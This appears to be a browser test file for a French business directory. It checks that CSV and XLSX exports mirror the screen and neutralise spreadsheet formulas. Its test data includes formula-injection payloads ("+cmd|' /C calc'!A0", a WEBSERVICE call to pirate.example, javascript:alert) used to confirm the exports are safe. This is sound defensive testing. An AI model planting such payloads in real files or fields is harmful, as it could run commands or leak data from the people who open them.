"""What leaves the selection: files equal to the screen and harmless in a spreadsheet, a text ready to send."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Route
from tests.sites import Project

from .conftest import WIDTHS, Open
from .selecting import (
    BREWERY,
    CAMP,
    CATERER,
    CLEANING,
    GONE,
    HOME_HELP,
    PRINTER,
    SELECTION,
    UNSURE,
    catalogue,
    choose,
    every_result,
    kept_for,
    read_csv,
    read_workbook,
    ready,
    shown_table,
    tab_to,
)

pytestmark = pytest.mark.browser

DANGEROUS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\uff1dA1",
    "\t=1",
    "+1 819",
    "12;34",
    "1,=2+3",
    'a"b',
    "un\ndeux",
)


def download(page: Page, kind: str) -> Any:
    """Ask for a file with the keyboard; give the download."""
    button = page.locator(f"[data-export={kind}]")
    button.focus()
    with page.expect_download() as waiting:
        page.keyboard.press("Enter")
    page.locator("[data-export-said]:not(:empty)").wait_for()
    return waiting.value


def alter(page: Page, data: dict[str, Any]) -> None:
    """Serve other data of the catalogue than those of the site."""

    def answer(route: Route) -> None:
        route.fulfill(body=json.dumps(data), content_type="application/json")

    page.route("**/acheter/catalogue.json", answer)


@pytest.mark.parametrize("width", WIDTHS.values(), ids=WIDTHS)
def test_files_say_what_the_screen_says(site: str, visit: Open, tmp_path: Path, width: int) -> None:
    with visit(site, width=width) as visited:
        page = visited.page
        choose(page, PRINTER, CLEANING, GONE, HOME_HELP, UNSURE)
        visited.open(SELECTION)
        ready(page)
        tab_to(page, "Choisir les lignes")
        page.keyboard.press("Enter")
        for key in ("neq", "code_postal", "fonction"):
            page.locator(f"[data-columns] [name={key}]").focus()
            page.keyboard.press("Space")
        page.locator("[data-columns] [name=certifications]").focus()
        page.keyboard.press("Space")
        screen = shown_table(page)
        assert [row[0] for row in screen] == ["Entreprise", PRINTER[1], CLEANING[1], HOME_HELP[1], UNSURE[1]]
        assert {"NEQ", "Adresse", "Code postal", "Courriel", "Téléphone"} <= set(screen[0])
        assert {"Prix indicatif", "Délai", "Capacité", "Conformité"} <= set(screen[0])
        assert "Certifications" not in screen[0]

        file = download(page, "csv")
        assert file.suggested_filename.startswith("entretien-2027-")
        data, rows = read_csv(file)
        assert data.startswith(b"\xef\xbb\xbf")
        assert data.count(b"\r\n") == len(screen) == data.count(b"\n")
        assert rows == screen

        sheet, cells = read_workbook(download(page, "xlsx"), tmp_path)
        assert cells == screen
        assert sheet.freeze_panes == "A2"
        assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s", "d", "f"}

        page.reload()
        ready(page)
        assert shown_table(page) == screen, "the choice of columns outlives the page"


def test_no_cell_is_a_formula(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
    data = catalogue(example.site)
    rank = data["entreprises"]["slug"].index(PRINTER[0])
    with visit(site) as visited:
        page = visited.page
        choose(page, PRINTER)
        visited.open("acheter/selection/")
        for text in DANGEROUS:
            data["entreprises"]["nom"][rank] = text
            data["entreprises"]["activite"][rank] = f"{text}\u0007"
            page.unroute_all()
            alter(page, data)
            page.add_init_script("localStorage.setItem('annuaire-brouillons', '')")
            visited.open(SELECTION)
            ready(page)
            page.locator(".choices summary").click()
            page.locator("[data-columns] [name=activite]").check()
            data_file, rows = read_csv(download(page, "csv"))
            assert "," not in text or f'"{text}"'.encode() in data_file, "another program parts cells with commas"
            starts = "=+-@\t\n\uff1d\uff0b\uff0d\uff20"
            for cell in (rows[1][0], rows[1][rows[0].index("Activité")]):
                assert cell[0] not in starts, text
                assert cell.removeprefix("'") == text
            sheet, cells = read_workbook(download(page, "xlsx"), tmp_path)
            assert cells[1][0] == text
            assert sheet["A2"].data_type == "s"


def test_a_large_workbook_needs_no_worker(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
    """The policy of the page refuses workers from a blob, which a writer of large files may want."""
    data = catalogue(example.site)
    data["entreprises"]["activite"] = ["mot " * 2000 + str(rank) for rank in range(len(data["entreprises"]["slug"]))]
    everyone = list(zip(data["entreprises"]["slug"], data["entreprises"]["nom"], strict=True))
    with visit(site) as visited:
        page = visited.page
        choose(page, *everyone)
        alter(page, data)
        visited.open(SELECTION)
        ready(page)
        page.locator(".choices summary").click()
        page.locator("[data-columns] [name=activite]").check()
        _, cells = read_workbook(download(page, "xlsx"), tmp_path)
        assert len(cells) == len(everyone) + 1
        assert cells[-1][cells[0].index("Activité")].endswith(f" {len(everyone) - 1}")


def test_files_say_what_each_was_kept_for(site: str, visit: Open, tmp_path: Path) -> None:
    with visit(site) as visited:
        page = visited.page
        choose(page, kept_for(CATERER, "traiteur", "offre"), kept_for(BREWERY, "traiteur", "secteur"), PRINTER)
        visited.open(SELECTION)
        page.locator(".compare__screen").wait_for()
        _, rows = read_csv(download(page, "csv"))
        assert rows == shown_table(page)
        first = [row[: rows[0].index("Offres correspondantes") + 1] for row in rows]
        assert first == [
            ["Entreprise", "Besoin", "Répond par", "Offres correspondantes"],
            [CATERER[1], "traiteur", "Une offre inscrite, confirmée", "Buffets froids et chauds"],
            [BREWERY[1], "traiteur", "Son secteur seulement", ""],
            [PRINTER[1], "", "", ""],
        ]
        _, cells = read_workbook(download(page, "xlsx"), tmp_path)
        assert cells == rows


@pytest.mark.parametrize(
    ("query", "asked"),
    [
        ("q=traiteur", {CATERER[1]: ["traiteur", "Une offre inscrite, confirmée", "Buffets froids et chauds"]}),
        (
            "categorie=traiteur",
            {CATERER[1]: ["Traiteur et buffets", "Une offre inscrite, confirmée", "Buffets froids et chauds"]},
        ),
        ("dessert=997", {}),
    ],
)
def test_a_file_of_results_says_by_what_each_answers(
    site: str, visit: Open, query: str, asked: dict[str, list[str]]
) -> None:
    with visit(site) as visited:
        page = visited.page
        visited.open(f"acheter/catalogue/?{query}")
        found = every_result(page)
        with page.expect_download() as waiting:
            page.locator("[data-catalogue-export=csv]").click()
        _, rows = read_csv(waiting.value)
        names = ["Besoin", "Répond par", "Offres correspondantes"]
        assert [row[0] for row in rows[1:]] == found
        assert (BREWERY[1] in found) == (query == "dessert=997"), "who is of the same sector only is in no file"
        if not asked:
            assert not set(names) & set(rows[0]), "nothing was asked of offers"
            return
        columns = [rows[0].index(name) for name in names]
        said = {row[0]: [row[column] for column in columns] for row in rows[1:]}
        assert {name: said[name] for name in asked} == asked
        if query == "q=traiteur":
            assert said[CAMP[1]] == ["traiteur", "Son activité, à demander", ""]


def test_exports_of_a_result(site: str, visit: Open, tmp_path: Path) -> None:
    """The catalogue exports what it found, in its order, with the same writer."""
    with visit(site) as visited:
        page = visited.page
        visited.open("acheter/catalogue/?categorie=entretien-menager")
        page.locator("[data-catalogue-export=xlsx]").wait_for()
        found = every_result(page)
        with page.expect_download() as waiting:
            page.locator("[data-catalogue-export=xlsx]").click()
        _, cells = read_workbook(waiting.value, tmp_path)
        assert [row[0] for row in cells[1:]] == found


def test_the_writer_of_workbooks_comes_when_asked(site: str, visit: Open) -> None:
    with visit(site) as visited:
        asked: list[str] = []
        visited.page.on("request", lambda request: asked.append(request.url))
        choose(visited.page, CLEANING)
        visited.open(SELECTION)
        ready(visited.page)
        assert not [url for url in asked if "workbook" in url]
        download(visited.page, "xlsx")
        assert [url for url in asked if "workbook" in url]


def test_a_workbook_says_what_it_is(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
    """Numbers, days and links as such, a sheet « À propos », and a name that says the need and the date."""
    with visit(site) as visited:
        page = visited.page
        visited.open("acheter/catalogue/?categorie=location-salles&pres=99503&rayon=100")
        every_result(page)
        with page.expect_download() as waiting:
            page.locator("[data-catalogue-export=xlsx]").click()
        file = waiting.value
        assert re.fullmatch(r"location-de-salles-20\d\d-\d\d-\d\d\.xlsx", file.suggested_filename)
        sheet, _ = read_workbook(file, tmp_path)
    heads = [cell.value for cell in sheet[1]]
    first = dict(zip(heads, sheet[2], strict=True))
    assert first["Distance à vol d’oiseau (km)"].data_type == "n"
    assert first["Fiche vérifiée"].is_date
    assert first["Fiche"].value.startswith(f'=HYPERLINK("{site}entreprises/')
    assert first["Courriel"].value.startswith('=HYPERLINK("mailto:')
    assert sheet.freeze_panes == "A2"
    about = sheet.parent["À propos"]
    rows = [[cell.value for cell in row] for row in about.iter_rows(min_row=2)]
    said = dict(reversed(rows))
    assert said["Question"].startswith("Fournisseurs de location de salles à 100\u00a0km ou moins d’Exemple-les-Bains")
    assert said["Filtres"] == "Location de salles; À 100\u00a0km ou moins d’Exemple-les-Bains"
    assert said["Date des données"].isoformat().startswith("2026-11-02")
    assert said["Fiches"] == catalogue(example.site)["version"]["fiches"]
    assert site in said["Site"]
    warned = " ".join(text for label, text in rows if label == "Mise en garde")
    assert "À confirmer" in warned
    assert "échéances" in warned
    assert about.freeze_panes == "A2"


def test_links_hold_no_other_formula(example: Project, site: str, visit: Open, tmp_path: Path) -> None:
    data = catalogue(example.site)
    firms = data["entreprises"]
    rank = firms["slug"].index(PRINTER[0])
    with visit(site) as visited:
        page = visited.page
        choose(page, PRINTER, CLEANING)
        visited.open(SELECTION)
        for website, mail in (
            ("https://a.example/\");cmd|'/C calc'!A0;(\"", 'a@b.example",WEBSERVICE("https://pirate.example")'),
            ("javascript:alert(1)", "a@b.example?bcc=pirate@pirate.example"),
            ("https://a.example/" + "x" * 300, "=1+1"),
            ("https://a.example/ un\ndeux", "a b@c.example"),
        ):
            firms["site_web"][rank], firms["courriel"][rank] = website, mail
            page.unroute_all()
            alter(page, data)
            visited.open(SELECTION)
            ready(page)
            sheet, rows = read_workbook(download(page, "xlsx"), tmp_path)
            for title, text in (("Site web", website), ("Courriel", mail)):
                cell = sheet.cell(2, rows[0].index(title) + 1)
                assert cell.data_type == "s", text
                assert cell.value == text
        firms["site_web"][rank] = "https://a.example/?a=1&b='x'"
        page.unroute_all()
        alter(page, data)
        visited.open(SELECTION)
        ready(page)
        sheet, rows = read_workbook(download(page, "xlsx"), tmp_path)
        cell = sheet.cell(2, rows[0].index("Site web") + 1)
        assert cell.value == "=HYPERLINK(\"https://a.example/?a=1&b='x'\",\"https://a.example/?a=1&b='x'\")"
